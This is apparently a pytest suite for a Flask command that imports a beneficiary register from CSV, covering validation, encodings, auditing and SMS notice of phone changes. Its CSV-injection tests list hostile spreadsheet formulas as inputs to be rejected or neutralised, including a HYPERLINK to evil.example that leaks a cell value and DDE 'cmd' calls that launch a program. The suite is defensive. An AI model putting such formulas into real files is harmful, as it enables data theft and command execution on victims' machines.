"""`hawiya beneficiaries import`: every row imported or reported, never garbled, never half-done."""

import codecs
import csv
import io
import json
import logging
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import func, select

from identity import db
from identity.audit import chain
from identity.demo.synthetic import HEADER, write_csv
from identity.models import AuditEvent, Beneficiary
from identity.register.beneficiaries import PHONE_CHANGED
from tests.factories import sms_sink

HEADER_LINE = ",".join(HEADER)
FATIMA = "288020122596,004512,فاطمة محمد الكندري,Fatima Mohammed Al-Kandari,+96551234567,active"
NASSER = "246070187798,098703,ناصر علي الهاجري,Nasser Ali Al-Hajri,+96590810111,active"


def write(tmp_path: Path, text: str, encoding: str = "utf-8", name: str = "register.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def run_import(app: Flask, path: Path, *extra: str):
    return app.test_cli_runner().invoke(args=["beneficiaries", "import", str(path), *extra])


def register(app: Flask) -> dict[str, Beneficiary]:
    with app.app_context():
        rows = db.session().scalars(select(Beneficiary)).all()
        return {row.civil_id: row for row in rows}


def audit(app: Flask) -> list[tuple[str, str, str, dict[str, object]]]:
    with app.app_context():
        events = db.session().scalars(select(AuditEvent).order_by(AuditEvent.id))
        return [(e.actor, e.action, e.subject, json.loads(e.details)) for e in events]


def read_rejects(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_imports_a_register_on_each_backend(any_app: Flask, tmp_path: Path) -> None:
    path = tmp_path / "register.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(out, 2500, seed=3)
    result = run_import(any_app, path)
    assert result.exit_code == 0, result.output
    assert "2500 new, 0 updated, 0 unchanged, 0 rejected" in result.output
    assert len(register(any_app)) == 2500
    assert not (tmp_path / "register.rejects.csv").exists()
    with any_app.app_context():
        session = db.session()
        created = select(func.count()).where(AuditEvent.action == "beneficiary.create")
        assert session.scalar(created) == 2500
        assert chain.verify_chain(session) == chain.VerifyResult(ok=True, checked=2500)


def test_importing_the_same_file_twice_changes_nothing(any_app: Flask, tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{NASSER}\n")
    assert run_import(any_app, path).exit_code == 0
    before = {cid: (b.updated_at, b.full_name_ar) for cid, b in register(any_app).items()}
    again = run_import(any_app, path)
    assert again.exit_code == 0
    assert "0 new, 0 updated, 2 unchanged" in again.output
    after = {cid: (b.updated_at, b.full_name_ar) for cid, b in register(any_app).items()}
    assert after == before


def test_a_changed_row_updates_by_civil_id(any_app: Flask, tmp_path: Path) -> None:
    run_import(any_app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{NASSER}\n"))
    changed = FATIMA.replace("+96551234567", "+96599887766").replace(",active", ",deceased")
    result = run_import(any_app, write(tmp_path, f"{HEADER_LINE}\n{changed}\n{NASSER}\n"))
    assert "0 new, 1 updated, 1 unchanged" in result.output
    fatima = register(any_app)["288020122596"]
    assert (fatima.phone, fatima.status) == ("+96599887766", "deceased")


# --- audited, and the old number told ---------------------------------------------------------

MOVED = FATIMA.replace("+96551234567", "+96599887766")


def test_an_import_audits_each_created_and_changed_row_and_no_unchanged_one(
    any_app: Flask, tmp_path: Path
) -> None:
    run_import(any_app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
    again = run_import(any_app, write(tmp_path, f"{HEADER_LINE}\n{MOVED}\n{NASSER}\n"))
    assert "1 new, 1 updated, 0 unchanged" in again.output
    unchanged = run_import(any_app, write(tmp_path, f"{HEADER_LINE}\n{MOVED}\n{NASSER}\n"))
    assert "0 new, 0 updated, 2 unchanged" in unchanged.output
    fatima, nasser = (chain.subject_for_civil_id(c) for c in ("288020122596", "246070187798"))
    assert audit(any_app) == [
        ("cli", "beneficiary.create", fatima, {"phone_changed": False, "status": "active"}),
        *sorted([
            ("cli", "beneficiary.update", fatima, {"phone_changed": True, "status": "active"}),
            ("cli", "beneficiary.create", nasser, {"phone_changed": False, "status": "active"}),
        ]),
    ]  # fmt: skip
    with any_app.app_context():
        assert chain.verify_chain(db.session()).ok


def test_a_phone_changed_by_an_import_tells_the_old_number(app: Flask, tmp_path: Path) -> None:
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{NASSER}\n"))
    deceased = NASSER.replace(",active", ",deceased")  # a change that keeps the phone
    result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{MOVED}\n{deceased}\n"))
    assert result.exit_code == 0, result.output
    assert sms_sink(app).messages == [("+96551234567", PHONE_CHANGED)]
    assert "0 new, 2 updated, 0 unchanged, 0 rejected." in result.output
    assert "Told 1 old mobile number that it no longer receives codes." in result.output


def test_an_import_that_replaces_no_phone_adds_no_line(app: Flask, tmp_path: Path) -> None:
    result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{NASSER}\n"))
    assert result.output.strip().splitlines() == [
        "Imported 2 of 2 rows: 2 new, 0 updated, 0 unchanged, 0 rejected."
    ]
    assert sms_sink(app).messages == []


def test_a_gateway_failure_is_logged_and_counted_and_the_import_stands(
    app: Flask, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{NASSER}\n"))
    sms_sink(app).fail_next = 1
    both_moved = f"{MOVED}\n{NASSER.replace('+96590810111', '+96550000009')}\n"
    with caplog.at_level(logging.WARNING):
        result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{both_moved}"))
    assert result.exit_code == 0, result.output
    assert len(sms_sink(app).messages) == 1
    assert (
        "Told 1 old mobile number that it no longer receives codes. 1 old mobile number could"
        " not be told: the SMS gateway failed (see the log)." in result.output
    )
    assert "could not tell +965****4567 of the phone change" in caplog.text
    assert register(app)["288020122596"].phone == "+96599887766"


def test_a_refused_import_tells_nobody_and_audits_nothing(app: Flask, tmp_path: Path) -> None:
    """The phone change is written in the first batch; a bad byte later rolls it all back."""
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
    before = audit(app)
    buffer = io.StringIO()
    write_csv(buffer, 3000, seed=5)
    synthetic = buffer.getvalue().split("\n", 1)[1]
    data = f"{HEADER_LINE}\n{MOVED}\n{synthetic}".encode() + b"1,\xff\xfe\n"
    path = tmp_path / "register.csv"
    path.write_bytes(data)
    result = run_import(app, path)
    assert result.exit_code != 0 and "is not valid UTF-8" in result.output
    assert sms_sink(app).messages == []
    assert audit(app) == before
    assert register(app)["288020122596"].phone == "+96551234567"


BAD_ROWS = [
    ("288020122597,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active", "check digit"),
    ("28802012259,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active", "12 digits"),
    ("288200122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active", "birth date"),
    ("988020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active", "century"),
    ("288020122596,,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active", "file number"),
    ("288020122596,1,Fatima,Fatima Al-Kandari,+96551234567,active", "Arabic"),
    ("288020122596,1,فاطمة الكندري,فاطمة,+96551234567,active", "English"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,51234567,active", "country code"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96522345678,active", "mobile"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,alive", "status"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567", "has 5 fields"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active,x", "has 7 fields"),
    ("288020122596,1," + "ب" * 5000 + ",Fatima,+96551234567,active", "longer than"),
    ("288020122596,1,فاطمة الكندري,Fatima Al-Kandari,+96551234567,active\x00", "control"),
]


@pytest.mark.parametrize(("row", "reason"), BAD_ROWS)
def test_each_bad_row_is_reported_with_line_and_reason(
    app: Flask, tmp_path: Path, row: str, reason: str
) -> None:
    path = write(tmp_path, f"{HEADER_LINE}\n{NASSER}\n{row}\n")
    result = run_import(app, path)
    assert result.exit_code == 1
    assert "1 new, 0 updated, 0 unchanged, 1 rejected" in result.output
    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
    assert rejected["line"] == "3"
    assert reason in rejected["reason"]
    assert rejected["civil_id"] == row.split(",")[0]
    assert list(register(app)) == ["246070187798"]


def test_every_reason_of_a_row_is_named(app: Flask, tmp_path: Path) -> None:
    row = "288020122597,,Fatima,Fatima Al-Kandari,12345,alive"
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{row}\n"))
    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
    for part in ("check digit", "file number", "Arabic", "country code", "status"):
        assert part in rejected["reason"]


def test_a_civil_id_twice_in_one_file_keeps_the_first(app: Flask, tmp_path: Path) -> None:
    arabic_digits = FATIMA.replace("288020122596", "٢٨٨٠٢٠١٢٢٥٩٦").replace("004512", "777")
    path = write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n{arabic_digits}\n")
    result = run_import(app, path)
    assert result.exit_code == 1
    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
    assert rejected["line"] == "3"
    assert "already appears on line 2" in rejected["reason"]
    assert register(app)["288020122596"].file_number == "004512"


def test_arabic_indic_digits_are_stored_as_ascii(app: Flask, tmp_path: Path) -> None:
    row = "٢٨٨٠٢٠١٢٢٥٩٦,٠٠٤٥١٢,فاطمة محمد الكندري,Fatima Al-Kandari,+٩٦٥٥١٢٣٤٥٦٧,Active"
    assert run_import(app, write(tmp_path, f"{HEADER_LINE}\n{row}\n")).exit_code == 0
    fatima = register(app)["288020122596"]
    assert (fatima.file_number, fatima.phone, fatima.status) == ("004512", "+96551234567", "active")


def test_line_numbers_count_physical_lines(app: Flask, tmp_path: Path) -> None:
    quoted = FATIMA.replace("Fatima Mohammed Al-Kandari", '"Fatima\nAl-Kandari"')
    text = f"{HEADER_LINE}\n{quoted}\n\n288020122597,1,أ ب,A B,+96551234567,active\n"
    result = run_import(app, write(tmp_path, text))
    first, second = read_rejects(tmp_path / "register.rejects.csv")
    assert (first["line"], second["line"]) == ("2", "5")
    assert "control characters" in first["reason"]
    assert "1 blank lines skipped" in result.output


@pytest.mark.parametrize(
    ("encoding", "prefix", "newline"),
    [
        ("utf-8", b"", "\n"),
        ("utf-8", codecs.BOM_UTF8, "\r\n"),
        ("utf-8", codecs.BOM_UTF8, "\n"),
        ("utf-16-le", codecs.BOM_UTF16_LE, "\r\n"),
        ("utf-16-be", codecs.BOM_UTF16_BE, "\n"),
    ],
)
def test_spreadsheet_encodings_are_decoded(
    app: Flask, tmp_path: Path, encoding: str, prefix: bytes, newline: str
) -> None:
    text = newline.join([HEADER_LINE, FATIMA, NASSER]) + newline
    path = tmp_path / "register.csv"
    path.write_bytes(prefix + text.encode(encoding))
    result = run_import(app, path)
    assert result.exit_code == 0, result.output
    people = register(app)
    assert people["288020122596"].full_name_ar == "فاطمة محمد الكندري"
    assert people["246070187798"].status == "active"


def test_windows_arabic_file_is_refused_whole_with_advice(app: Flask, tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER_LINE}\n{NASSER}\n{FATIMA}\n", encoding="cp1256")
    result = run_import(app, path)
    assert result.exit_code != 0
    assert "Line 2 is not valid UTF-8" in result.output
    assert "--encoding windows-1256" in result.output
    assert register(app) == {}
    assert not (tmp_path / "register.rejects.csv").exists()


def test_windows_arabic_file_imports_with_its_encoding_named(app: Flask, tmp_path: Path) -> None:
    path = write(tmp_path, f"{HEADER_LINE}\n{NASSER}\n{FATIMA}\n", encoding="cp1256")
    result = run_import(app, path, "--encoding", "windows-1256")
    assert result.exit_code == 0, result.output
    assert register(app)["288020122596"].full_name_ar == "فاطمة محمد الكندري"


def test_a_bad_byte_late_in_a_large_file_writes_nothing(app: Flask, tmp_path: Path) -> None:
    buffer = io.StringIO()
    write_csv(buffer, 3000, seed=5)
    data = buffer.getvalue().encode("utf-8") + b"288020122596,1,\xff\xfe,Bad,+96551234567,active\n"
    path = tmp_path / "register.csv"
    path.write_bytes(data)
    result = run_import(app, path)
    assert result.exit_code != 0
    assert "Line 3002 is not valid UTF-8" in result.output
    assert register(app) == {}


def test_mojibake_is_rejected_not_stored(app: Flask, tmp_path: Path) -> None:
    garbled = FATIMA.encode("utf-8").decode("latin-1")
    result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{garbled}\n{NASSER}\n"))
    assert result.exit_code == 1
    assert "288020122596" not in register(app)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("civil_id,file_number,full_name_ar,full_name_en,phone\n", "missing status"),
        (f"{HEADER_LINE},notes\n", "unknown 'notes'"),
        (f"{HEADER_LINE},status\n", "repeated status"),
        ("a;b;c\n1;2;3\n", "not a register header"),
        (f'{HEADER_LINE}\n{FATIMA}\n1,"{"x" * 200_000}"\n', "cannot be read as CSV"),
    ],
)
def test_a_file_that_is_not_a_register_is_refused_whole(
    app: Flask, tmp_path: Path, text: str, message: str
) -> None:
    result = run_import(app, write(tmp_path, text))
    assert result.exit_code != 0
    assert message in result.output
    assert "Traceback" not in result.output
    assert register(app) == {}


def test_a_missing_file_is_a_clear_error(app: Flask, tmp_path: Path) -> None:
    result = run_import(app, tmp_path / "nope.csv")
    assert result.exit_code != 0
    assert "Cannot open" in result.output


def test_header_names_are_trimmed_reordered_and_category_is_optional(
    app: Flask, tmp_path: Path
) -> None:
    header = " Status ,phone,full_name_en,full_name_ar,file_number,CIVIL_ID,category"
    row = "active,+96551234567,Fatima Al-Kandari,فاطمة الكندري,004512,288020122596,housing"
    assert run_import(app, write(tmp_path, f"{header}\n{row}\n")).exit_code == 0
    assert register(app)["288020122596"].category == "housing"
    # A later file without the column leaves the category as it was.
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
    assert register(app)["288020122596"].category == "housing"


def test_a_clean_run_removes_a_stale_rejects_file(app: Flask, tmp_path: Path) -> None:
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA.replace(',active', ',x')}\n"))
    assert (tmp_path / "register.rejects.csv").exists()
    run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
    assert not (tmp_path / "register.rejects.csv").exists()


def test_import_refuses_before_hawiya_init(tmp_path: Path) -> None:
    from tests.apps import make_app

    app = make_app(tmp_path)
    result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
    assert result.exit_code != 0
    assert "hawiya init" in result.output


# --- real names, categories, formulas, encodings ---------------------------------------------

HEADER_WITH_CATEGORY = [*HEADER, "category"]
REAL_NAMES = [
    # surname first with a comma (in both scripts), decomposed accents, tatweel, transliteration
    ["288020122596", "004512", "الغانم، طلال جاسم", "Al-Ghanim, Talal Jassim", "+96551234567",
     "active", "special-needs"],
    ["246070187798", "098703", "محمــد عبد-الله", "Jose\u0301 Nguye\u0302\u0303n O’Brien",
     "+96590810111", "active", "أرامل"],
    ["261080414865", "577815", "زينب م. الصباح", "ʿAbd al-Raḥmān, Ğökhan", "+96550629072",
     "suspended", ""],
]  # fmt: skip


def write_rows(tmp_path: Path, header: list[str], rows: list[list[str]]) -> Path:
    path = tmp_path / "register.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([header, *rows])
    return path


def test_real_register_names_import_and_a_second_run_changes_nothing(
    any_app: Flask, tmp_path: Path
) -> None:
    """Prevents refusing a genuine agency export ("Al-Ghanim, Talal Jassim", "José", "Nguyễn")."""
    path = write_rows(tmp_path, HEADER_WITH_CATEGORY, REAL_NAMES)
    first = run_import(any_app, path)
    assert first.exit_code == 0, first.output
    assert "3 new, 0 updated, 0 unchanged, 0 rejected" in first.output
    stored = register(any_app)
    assert stored["288020122596"].full_name_en == "Al-Ghanim, Talal Jassim"
    assert stored["288020122596"].full_name_ar == "الغانم، طلال جاسم"
    assert stored["246070187798"].full_name_en == "José Nguyễn O’Brien"  # NFC
    assert stored["246070187798"].category == "أرامل"
    assert stored["261080414865"].category is None
    before = {cid: (b.updated_at, b.full_name_en, b.category) for cid, b in stored.items()}
    again = run_import(any_app, path)
    assert again.exit_code == 0
    assert "0 new, 0 updated, 3 unchanged, 0 rejected" in again.output
    after = {
        cid: (b.updated_at, b.full_name_en, b.category) for cid, b in register(any_app).items()
    }
    assert after == before


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("full_name_en", '=HYPERLINK("http://evil.example","x")', "English name may contain only"),
        ("full_name_en", "-Talal", "English name must start with a letter"),
        ("full_name_en", "Talal\u200f", "English name may contain only"),
        ("full_name_ar", "طلال 2", "Arabic name may contain only"),
        ("full_name_ar", "طلال\u200f", "Arabic name may contain only"),
        ("category", "=1+1", "category may contain only"),
        ("category", "-2+3", "category may contain only"),
        ("category", "@SUM(A1)", "category may contain only"),
        ("category", "-widows", "category must start with a letter or digit"),
    ],
)
def test_names_and_categories_that_run_or_mean_nothing_are_rejected(
    app: Flask, tmp_path: Path, column: str, value: str, reason: str
) -> None:
    """Prevents storing a formula (category "=1+1") or an invisible mark in the register."""
    row = list(REAL_NAMES[0])
    row[HEADER_WITH_CATEGORY.index(column)] = value
    result = run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
    assert result.exit_code == 1
    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
    assert reason in rejected["reason"]
    assert register(app) == {}


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "+2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE_CELLS)
@pytest.mark.parametrize("column", ["civil_id", "full_name_en", "status", "category"])
def test_the_rejects_file_neutralises_formulas(
    app: Flask, tmp_path: Path, hostile: str, column: str
) -> None:
    """Prevents CSV injection: a rejected cell is repeated as text, never as a formula."""
    row = list(REAL_NAMES[0])
    row[HEADER_WITH_CATEGORY.index(column)] = hostile
    run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
    with (tmp_path / "register.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        header, written = list(csv.reader(handle))
    assert header == ["line", "reason", *HEADER_WITH_CATEGORY]
    assert written[0] == "2" and written[1][:1].isalpha()  # line and reason stay readable
    cells = dict(zip(header, written, strict=True))
    assert cells[column] == "'" + hostile
    assert cells["phone"] == "'+96551234567"  # a phone starts with "+": a spreadsheet number
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)


def test_a_rejects_file_fixed_by_hand_imports_again(app: Flask, tmp_path: Path) -> None:
    """Prevents the quote that neutralises a cell from making the report impossible to re-import."""
    row = list(REAL_NAMES[0])
    row[HEADER_WITH_CATEGORY.index("category")] = "=1+1"
    run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
    with (tmp_path / "register.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        header, written = list(csv.reader(handle))
    fixed = written[2:]
    fixed[HEADER_WITH_CATEGORY.index("category")] = "widows"
    again = run_import(app, write_rows(tmp_path, header[2:], [fixed]))
    assert again.exit_code == 0, again.output
    fatima = register(app)["288020122596"]
    assert (fatima.phone, fatima.category) == ("+96551234567", "widows")


@pytest.mark.parametrize("encoding", ["rot13", "base64", "zlib", "hex", "undefined", "nope", "a\0"])
def test_an_encoding_that_is_not_a_text_encoding_is_a_usage_error(
    app: Flask, tmp_path: Path, encoding: str
) -> None:
    """Prevents a traceback for --encoding rot13 (a str-to-str codec) or an unknown name."""
    path = write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n")
    result = run_import(app, path, "--encoding", encoding)
    assert result.exit_code == 2
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    assert "Invalid value for '--encoding'" in result.output
    assert "not a text encoding" in result.output or "not a known encoding" in result.output
    assert register(app) == {}
    assert not (tmp_path / "register.rejects.csv").exists()


def test_a_codec_failing_with_a_bare_unicode_error_refuses_the_file(
    app: Flask, tmp_path: Path
) -> None:
    """Prevents a traceback from codecs (punycode) that raise UnicodeError, not its subclass."""
    result = run_import(
        app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"), "--encoding", "punycode"
    )
    assert result.exit_code == 1
    assert "is not valid PUNYCODE text" in result.output
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    assert register(app) == {}


def test_the_back_office_api_accepts_and_refuses_the_same_names(app: Flask) -> None:
    """Prevents the API and the import disagreeing on what a name or a category may be."""
    from tests.factories import backoffice_token

    client = app.test_client()
    headers = {"Authorization": f"Bearer {backoffice_token(app)}"}
    body = dict(zip(HEADER_WITH_CATEGORY[1:], REAL_NAMES[1][1:], strict=True))
    created = client.put("/api/v1/beneficiaries/246070187798", json=body, headers=headers)
    assert created.status_code == 201, created.json
    assert created.json["full_name_en"] == "José Nguyễn O’Brien"
    for bad in ({"category": "=1+1"}, {"full_name_en": "=cmd|' /C calc'!A0"}):
        refused = client.put(
            "/api/v1/beneficiaries/246070187798", json={**body, **bad}, headers=headers
        )
        assert refused.status_code == 400
        assert set(refused.json["error"]) == {"code", "message"}
    assert register(app)["246070187798"].category == "أرامل"
